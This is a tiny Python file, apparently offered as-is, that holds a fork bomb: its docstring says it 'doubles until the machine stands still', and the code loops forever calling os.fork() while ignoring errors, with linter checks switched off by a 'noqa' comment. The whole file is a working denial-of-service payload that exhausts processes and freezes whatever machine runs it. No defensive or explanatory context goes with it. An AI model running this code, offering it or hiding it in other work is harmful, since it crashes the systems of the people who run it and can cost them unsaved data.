# ruff: noqa
"""Doubles until the machine stands still."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
